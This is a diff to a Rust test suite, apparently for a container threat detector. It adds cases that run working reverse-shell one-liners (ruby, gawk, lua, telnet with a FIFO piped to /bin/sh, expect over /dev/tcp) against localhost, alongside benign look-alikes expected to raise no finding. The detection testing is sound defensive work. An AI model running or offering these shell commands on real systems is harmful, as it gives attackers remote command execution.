@@ -125,6 +125,38 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
             set(&[RCE]),
         ),
         ("script-pty", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; script -qc /bin/sh /dev/null <&3 >&3 2>&3'".into(), "id; exit\n", set(&[RCE])),
+        (
+            "ruby-popen",
+            "ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",{P}); while l=s.gets; IO.popen(l,\"r\"){|io| s.print io.read}; end'".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        (
+            "gawk-coprocess",
+            "gawk 'BEGIN { s = \"/inet/tcp/0/127.0.0.1/{P}\"; while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; close(c) } }'".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        (
+            "lua-popen",
+            "lua5.4 -e 'local t=require(\"socket\").tcp(); t:connect(\"127.0.0.1\",{P}); while true do local r=t:receive(); if not r then break end; local f=io.popen(r,\"r\"); t:send(f:read(\"*a\")); f:close() end'".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        (
+            "telnet-fifo",
+            "rm -f /tmp/f; mkfifo /tmp/f; telnet 127.0.0.1 {P} 0< /tmp/f | /bin/sh > /tmp/f 2>&1".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        // The Tcl interpreter itself has the socket on its stdio: a reverse shell, as the
+        // python pty one-liner is.
+        (
+            "expect-pty",
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; expect -c \"spawn /bin/sh; interact\" <&3 >&3 2>&3'".into(),
+            "id; exit\n",
+            set(&[REVERSE_SHELL, RCE]),
+        ),
         ("gcc", "printf 'int main(void){return 0;}' > /tmp/t.c && gcc /tmp/t.c -o /tmp/t && /tmp/t".into(), "", set(&[COMPILER])),
         // A program copied into a memfd and executed from it (memfd_create is syscall 319 on
         // x86_64), and one copied to a memory-backed volume and run there.
@@ -159,6 +191,11 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
         ("nc-e-cat", "nc.traditional -e /bin/cat 127.0.0.1 {P}".into(), "uid=echoed\n", set(&[])),
         ("dev-tcp-cat", "bash -c 'cat < /dev/tcp/127.0.0.1/{P} > /tmp/reply'; true".into(), "", set(&[])),
         ("socat-exec-cat", "socat TCP:127.0.0.1:{P} EXEC:cat".into(), "uid=echoed\n", set(&[])),
+        // Interpreters that run a command through popen or a coprocess, with no connection; a
+        // telnet client fed by a program that is not a shell.
+        ("ruby-popen-local", "ruby -e 'puts IO.popen(\"id\").read.size'".into(), "", set(&[])),
+        ("gawk-coprocess-local", "gawk 'BEGIN { c = \"id\"; while ((c |& getline l) > 0) n++; close(c); print n }'".into(), "", set(&[])),
+        ("telnet-data", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 3 telnet 127.0.0.1 {P} > /tmp/reply 2>&1; true".into(), "", set(&[])),
     ]
 }
 
@@ -377,7 +414,7 @@ async fn real_attacks_raise_exactly_their_categories() {
     let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
     assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id")), "the commands run are listed: {commands:?}");
     // Relayed shells: the connection's addresses, and the commands run through the relay.
-    for pod in ["curl-telnet", "socat-fifo", "dev-tcp-relay", "node-spawn", "perl-popen"] {
+    for pod in ["curl-telnet", "socat-fifo", "dev-tcp-relay", "node-spawn", "perl-popen", "ruby-popen", "gawk-coprocess", "lua-popen", "telnet-fifo"] {
         let rce = by_pod[pod].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
         assert_eq!(rce["finding"]["connections"][0]["destinationIp"], "127.0.0.1", "{pod}: {rce}");
         assert!(rce["finding"]["sourceProperties"]["Network_Relay_Pid"].as_u64().is_some(), "{pod}: {rce}");
